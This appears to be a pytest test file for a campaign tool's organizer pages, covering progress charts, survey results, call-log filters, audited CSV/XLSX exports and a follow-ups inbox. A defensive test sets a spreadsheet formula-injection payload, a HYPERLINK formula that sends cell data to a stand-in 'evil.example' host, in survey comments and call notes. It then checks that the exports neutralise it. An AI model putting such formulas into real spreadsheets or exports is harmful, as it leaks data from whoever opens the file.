"""The organizer's calling pages over HTTP (issue #25, items 8 to 10): progress figures, survey
results and the call log with formula-safe downloads (audited), the follow-ups inbox; 404
across units, nothing for callers."""

from __future__ import annotations

import asyncio
import io

import pytest

from core import db
from core.audit.services import flush_list_reads
from tests.core.console.helpers import console_login as _login
from tests.core.console.helpers import csrf_of
from tests.plugins.calling.conftest import next_call, open_assignment, report

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'


async def _audited(app, action: str, expected: int) -> list[dict]:
    """The audit rows of ``action`` once ``expected`` are written: a streamed download queues
    its list read after the last byte went out, which may be just after the client has it."""
    for _ in range(100):
        await flush_list_reads(app)
        rows = await db.fetch("SELECT detail FROM audit_log WHERE action = {} ORDER BY id", action)
        if len(rows) >= expected:
            return rows
        await asyncio.sleep(0.05)
    return rows


async def console_login(client, email: str):
    """Log in and read the pages in English (the words the assertions look for)."""
    client.cookies.clear()
    await _login(client, email)
    client.cookies.set("orga_lang", "en")


def _base(campaign, assignment) -> str:
    return f"/app/orgs/{campaign.federal['id']}/calling/assignments/{assignment['id']}"


async def _calls(client, campaign, assignment, outcomes, **body):
    caller = campaign.callers[0]
    for outcome in outcomes:
        call = await next_call(client, campaign, assignment["id"], caller)
        answered = await report(client, campaign, call["call_id"], caller, outcome=outcome, **body)
        assert answered.status_code == 204, answered.text


async def test_progress_page_shows_the_right_figures_with_charts_and_tables(client, campaign):
    from core.people.tags import set_tags

    await set_tags(
        campaign.people[0]["id"], campaign.federal["id"], campaign.federal["path"], ["aktiv"]
    )
    assignment = await open_assignment(
        client, campaign, goal={"filters": [{"type": "tags", "tags": ["aktiv"]}]}
    )
    await _calls(client, campaign, assignment, ["no_answer", "busy"])
    await console_login(client, campaign.organizer.email)
    page = await client.get(_base(campaign, assignment) + "/progress")
    assert page.status_code == 200, page.text
    html = page.text
    # six to call: one already meets the goal (done, not remaining), two wait out the cooldown
    assert 'id="fig-targets">6<' in html and 'id="fig-done">1<' in html
    assert 'id="fig-remaining">5<' in html and 'id="fig-ready">3<' in html
    assert 'id="fig-calls">2<' in html
    assert html.count('role="img"') >= 3 and '<title id="chart-outcomes-title">' in html
    assert "No answer" in html and "Busy" in html and "Kreis A" in html
    assert 'data-live="15"' in html


async def test_pages_are_404_across_units_and_closed_to_callers(client, factory, campaign):
    assignment = await open_assignment(client, campaign)
    district = await factory.user("organizer", campaign.district_a["id"])
    await console_login(client, district.email)
    inside = f"/app/orgs/{campaign.district_a['id']}/calling/assignments/{assignment['id']}"
    for page in ("progress", "results", "log", "results/export?format=csv", "log/export"):
        assert (await client.get(f"{inside}/{page}")).status_code == 404, page
    await console_login(client, campaign.callers[0].email)
    caller_home = f"/app/orgs/{campaign.district_a['id']}"
    assert (await client.get(f"{inside}/progress")).status_code == 403
    assert (await client.get(f"{caller_home}/calling/followups")).status_code == 403
    start = await client.get(caller_home)
    assert "calling/followups" not in start.text


async def test_results_page_and_formula_safe_downloads_are_audited(app, client, campaign):
    assignment = await open_assignment(client, campaign)
    await _calls(
        client,
        campaign,
        assignment,
        ["reached", "reached"],
        answers={"topics": ["Miete", "Frieden"], "comment": EVIL},
    )
    await _calls(client, campaign, assignment, ["reached"], answers={"topics": ["Miete"]})
    await console_login(client, campaign.organizer.email)
    base = _base(campaign, assignment)
    page = await client.get(base + "/results")
    assert page.status_code == 200
    assert "Welche Themen bewegen dich?" in page.text and "Answered in 3 calls." in page.text
    rows = page.text.split('id="chart-topics"')[1]
    assert '<th scope="row">Miete</th><td class="num">3</td>' in rows
    assert '<th scope="row">Pflege</th><td class="num">0</td>' in rows
    assert "=HYPERLINK(&#34;https://evil" in page.text or "=HYPERLINK(&quot;" in page.text
    csv = await client.get(base + "/results/export", params={"format": "csv"})
    assert csv.status_code == 200 and csv.headers["content-type"].startswith("text/csv")
    assert "attachment" in csv.headers["content-disposition"]
    lines = csv.text.splitlines()
    assert lines[0].endswith("outcome,notes,topics,comment")
    assert "'=HYPERLINK" in csv.text and ",=HYPERLINK" not in csv.text
    assert "Miete; Frieden" in csv.text
    xlsx = await client.get(base + "/results/export", params={"format": "xlsx"})
    assert xlsx.status_code == 200
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx.content), read_only=True).active
    values = [row for row in sheet.iter_rows(values_only=True)]
    assert values[0][-2:] == ("topics", "comment") and len(values) == 4
    assert all(not str(v).startswith("=") for row in values for v in row if v is not None)
    assert any(str(v).startswith("'=HYPERLINK") for row in values for v in row)
    bad = await client.get(base + "/results/export", params={"format": "pdf"})
    assert bad.status_code == 422
    audited = await _audited(app, "calling.results_exported", 2)
    assert len(audited) == 2
    detail = db.json_value(audited[0]["detail"])
    assert len(detail["people"]) == 3 and detail["filter"] == {"format": "csv"}


async def test_call_log_filters_pages_and_exports(app, client, campaign):
    assignment = await open_assignment(client, campaign)
    await _calls(client, campaign, assignment, ["reached", "busy", "no_answer"], notes=EVIL)
    await console_login(client, campaign.organizer.email)
    base = _base(campaign, assignment) + "/log"
    everything = await client.get(base)
    assert everything.status_code == 200 and everything.text.count("<tr>") == 4
    busy = await client.get(base, params={"outcome": "busy"})
    assert busy.text.count("<tr>") == 2 and ">Busy<" in busy.text
    caller = campaign.callers[0]
    mine = await client.get(base, params={"caller_id": str(caller.id), "since": "2000-01-01"})
    assert mine.text.count("<tr>") == 4
    none = await client.get(base, params={"until": "2000-01-01"})
    assert "No calls match." in none.text
    wrong = await client.get(base, params={"since": "gestern"})
    assert wrong.status_code == 422 and 'id="f-since-error"' in wrong.text
    assert 'value="gestern"' in wrong.text
    assert 'href="' + base + '/export?outcome=busy&amp;format=csv"' in busy.text
    exported = await client.get(base + "/export", params={"outcome": "busy", "format": "csv"})
    lines = exported.text.splitlines()
    assert len(lines) == 2 and ",busy,\"'=HYPERLINK" in lines[1]
    listed = await _audited(app, "calling.log_listed", 4)
    assert len(listed) == 4  # the refused filter listed nobody
    logged = await _audited(app, "calling.log_exported", 1)
    assert db.json_value(logged[0]["detail"])["filter"] == {"outcome": "busy", "format": "csv"}


async def test_followups_inbox_assign_and_close_with_a_note(client, factory, campaign):
    assignment = await open_assignment(client, campaign)
    caller = campaign.callers[0]
    call = await next_call(client, campaign, assignment["id"], caller)
    await report(
        client,
        campaign,
        call["call_id"],
        caller,
        organizer_action="Bitte Flyer",
        wants_local_contact=True,
    )
    home = campaign.district_a if call["person"]["home_unit"] == "Kreis A" else campaign.district_b
    away = campaign.district_b if home is campaign.district_a else campaign.district_a
    organizer = await factory.user("organizer", home["id"])
    colleague = await factory.user("organizer", home["id"])
    await console_login(client, organizer.email)
    inbox = f"/app/orgs/{home['id']}/calling/followups"
    page = await client.get(inbox)
    assert page.status_code == 200 and "Bitte Flyer" in page.text
    assert "Wants contact with the local group" in page.text
    assert f'href="/app/orgs/{home["id"]}/calling/followups"' in page.text  # menu entry
    only = await client.get(inbox, params={"kind": "organizer_action"})
    assert "Bitte Flyer" in only.text and 'class="followup"' in only.text
    assert only.text.count('class="followup"') == 1
    followup = await db.fetch_one("SELECT id FROM calling_followup WHERE kind = 'organizer_action'")
    target = f"{inbox}/{followup['id']}"
    token = csrf_of(page.text)
    assigned = await client.post(
        target, data={"_csrf": token, "action": "assign", "assigned_to": str(colleague.id)}
    )
    assert assigned.status_code == 303
    page = await client.get(inbox)
    assert f"Assigned to {colleague.email.split('@')[0]}" in page.text
    stranger = await factory.user("organizer", away["id"])
    refused = await client.post(
        target, data={"_csrf": token, "action": "assign", "assigned_to": str(stranger.id)}
    )
    assert refused.status_code == 422 and "home unit" in refused.text
    assert f'id="assign-{followup["id"]}-error"' in refused.text
    done = await client.post(
        target, data={"_csrf": token, "action": "done", "note": "Flyer verschickt"}
    )
    assert done.status_code == 303
    closed = await client.get(inbox, params={"status": "done"})
    assert "Flyer verschickt" in closed.text
    row = await db.fetch_one(
        "SELECT status, note, assigned_to, done_by FROM calling_followup WHERE id = {}",
        followup["id"],
    )
    assert row == {
        "status": "done",
        "note": "Flyer verschickt",
        "assigned_to": colleague.id,
        "done_by": organizer.id,
    }
    audit = await db.fetch(
        "SELECT detail FROM audit_log WHERE action = 'calling.followup_changed' ORDER BY id"
    )
    assert [db.json_value(a["detail"]).get("status") for a in audit] == [None, "done"]
    # the JSON route takes the same fields; another district's organizer gets 404
    api = f"/api/orgs/{home['id']}/calling/followups/{followup['id']}"
    reopened = await client.patch(
        api, json={"status": "open", "assigned_to": None}, headers=organizer.headers
    )
    assert reopened.status_code == 200 and reopened.json()["assigned_to"] is None
    await console_login(client, stranger.email)
    away_inbox = await client.get(f"/app/orgs/{away['id']}/calling/followups")
    assert "Bitte Flyer" not in away_inbox.text
    foreign = await client.post(
        f"/app/orgs/{away['id']}/calling/followups/{followup['id']}",
        data={"_csrf": csrf_of(away_inbox.text), "action": "reopen"},
    )
    assert foreign.status_code == 404


class TestABigAssignmentsViewsShareTheLastCount:
    """An assignment with ``progress_shared_from`` people to call (here: every one) is served
    from the last count, refreshed behind the page once it is older than
    ``progress_refresh_seconds`` (here: at once)."""

    @pytest.fixture
    def orga_overrides(self):
        return {
            "module_config": {"calling": {"progress_shared_from": 0, "progress_refresh_seconds": 0}}
        }

    async def test_a_view_answers_from_the_last_count_and_the_next_sees_the_refresh(
        self, client, campaign
    ):
        assignment = await open_assignment(client, campaign)
        await console_login(client, campaign.organizer.email)
        progress = _base(campaign, assignment) + "/progress"
        first = await client.get(progress)
        assert 'id="fig-calls">0<' in first.text
        await _calls(client, campaign, assignment, ["reached"])
        # answered at once from the count before the call; that view starts a new count
        second = await client.get(progress)
        assert 'id="fig-calls">0<' in second.text
        for _ in range(100):
            later = await client.get(progress)
            if 'id="fig-calls">1<' in later.text:
                break
            await asyncio.sleep(0.05)
        assert 'id="fig-calls">1<' in later.text and 'id="fig-done">1<' in later.text
